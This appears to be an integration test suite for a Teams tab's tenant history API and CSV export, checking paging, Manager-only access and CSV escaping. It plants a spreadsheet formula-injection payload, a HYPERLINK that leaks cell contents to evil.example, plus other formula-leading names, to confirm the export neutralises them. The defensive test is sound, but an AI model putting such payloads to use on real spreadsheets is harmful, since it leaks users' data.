import { TabClient } from '../support/tabClient';
import { startWorld, type World } from '../support/world';

interface HistoryPage {
  events: { at: string; text: string; action: string }[];
  next?: string;
}

/** Reads a CSV as RFC 4180 writes it: quoted fields, doubled quotes, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') {
      quoted = !quoted;
    } else if (!quoted && c === ',') {
      row.push(field);
      field = '';
    } else if (!quoted && c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else {
      field += c;
    }
  }
  return rows;
}

/**
 * The history on the Tenants tab over HTTP: newest first, a page at a time, for Managers; and the whole of it as a
 * CSV download a spreadsheet opens safely.
 */
describe('the Tenants tab’s history and its CSV download (real server, sandbox Entra ID, Redis)', () => {
  let world: World;
  let tab: TabClient;
  const trap = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';

  beforeAll(async () => {
    world = await startWorld({ tab: true });
    tab = new TabClient(world);
    await tab.associate('Nestor Wilke', 'megan@contoso.com');
    // Enough events for more than one page.
    for (let i = 0; i < 20; i++) {
      await tab.call('POST', '/tab/api/removals', {
        as: 'Lidia Holloway',
        body: { tenantId: tab.tenantId('Contoso') },
      });
    }
    // Names come from other people's directories: one that a spreadsheet would run as a formula, one with quotes.
    for (const name of [trap, 'Lidia "LH" Holloway, Ops', '+1-555-0100', '-2+3', '@SUM(A1)']) {
      await tab.call('POST', '/tab/api/removals', {
        as: { as: 'Lidia Holloway', claims: { name } },
        body: { tenantId: tab.tenantId('Contoso') },
      });
    }
  });
  afterAll(() => world?.close());

  test('a Manager reads the history newest first, a page at a time', async () => {
    const first = await tab.call<HistoryPage>('GET', '/tab/api/history', { as: 'Nestor Wilke' });
    expect(first.status).toBe(200);
    const texts = first.body.events.map((e) => e.text);
    expect(texts.slice(0, 5)).toEqual([
      '@SUM(A1) asked to remove Contoso Ltd.',
      '-2+3 asked to remove Contoso Ltd.',
      '+1-555-0100 asked to remove Contoso Ltd.',
      'Lidia "LH" Holloway, Ops asked to remove Contoso Ltd.',
      `${trap} asked to remove Contoso Ltd.`,
    ]);
    const times = first.body.events.map((e) => Date.parse(e.at));
    expect([...times].sort((a, b) => b - a)).toEqual(times);

    // 25 events a page; the next one goes on where this one stopped.
    expect(first.body.events).toHaveLength(25);
    expect(first.body.next).toEqual(expect.any(String));
    const second = await tab.call<HistoryPage>(
      'GET',
      `/tab/api/history?before=${encodeURIComponent(first.body.next ?? '')}`,
      { as: 'Nestor Wilke' },
    );
    expect(second.status).toBe(200);
    expect(second.body.events.length).toBeGreaterThan(0);
    expect(Date.parse(second.body.events[0].at)).toBeLessThanOrEqual(times[times.length - 1]);
    expect(second.body.events.map((e) => e.text)).toContain(
      "Adatum was associated from the start: it is the account's own tenant.",
    );
  });

  test('someone who is not a Manager cannot read it, nor download it', async () => {
    for (const path of ['/tab/api/history', '/tab/api/history.csv']) {
      const { status, body } = await tab.call<{ error: string }>('GET', path, { as: 'Diego Siciliani' });
      expect(status).toBe(403);
      expect(body.error).toContain('can see its history');
    }
  });

  test('the CSV download: a named attachment, one quoted row per event, formulas made text', async () => {
    const { status, headers, body } = await tab.call<string>('GET', '/tab/api/history.csv', {
      as: 'Nestor Wilke',
    });
    expect(status).toBe(200);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(headers.get('content-disposition')).toMatch(
      /^attachment; filename="adatum-software-partner-center-history-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('x-content-type-options')).toBe('nosniff');

    // fetch's text() drops the byte order mark that Excel needs; the bytes keep it.
    const bytes = Buffer.from(
      await (
        await fetch(tab.url('/tab/api/history.csv'), {
          headers: { authorization: `Bearer ${tab.ssoToken()}` },
        })
      ).arrayBuffer(),
    );
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    // Every field is quoted; every record ends with CRLF.
    expect(
      body
        .split('\r\n')
        .filter(Boolean)
        .every((line) => line.startsWith('"') && line.endsWith('"')),
    ).toBe(true);

    const [header, ...rows] = parseCsv(body);
    expect(header).toEqual([
      'When (UTC)',
      'What happened',
      'Event',
      'By',
      'By: tenant ID',
      'By: object ID',
      'Organization',
      'Tenant ID',
      'User',
      'User: object ID',
      'Roles',
      'Request ID',
    ]);
    // All of it, not a page: the 25 removal requests, the association with its first Manager, R10's tenant.
    expect(rows.filter((r) => r[2] === 'request.created')).toHaveLength(26);
    expect(rows[rows.length - 1][2]).toBe('tenant.associated');
    const by = rows.map((r) => r[3]);
    expect(by).toEqual(
      expect.arrayContaining([
        `'${trap}`,
        'Lidia "LH" Holloway, Ops',
        "'+1-555-0100",
        "'-2+3",
        "'@SUM(A1)",
        'Nestor Wilke',
      ]),
    );
    // A sentence that starts with a formula is text too.
    expect(rows[0][1]).toBe("'@SUM(A1) asked to remove Contoso Ltd.");
    const associated = rows.find((r) => r[2] === 'association.completed');
    expect(associated).toMatchObject({
      3: 'Nestor Wilke',
      4: world.sandbox.directory.teams.tenantId,
      7: tab.tenantId('Contoso'),
    });
    const firstManager = rows.find((r) => r[2] === 'member.added');
    expect(firstManager).toMatchObject({
      8: 'Megan Bowen',
      9: tab.directoryUser('megan@contoso.com').objectId,
      10: 'Manager',
    });
    expect(rows.every((r) => !Number.isNaN(Date.parse(r[0])))).toBe(true);
  });
});
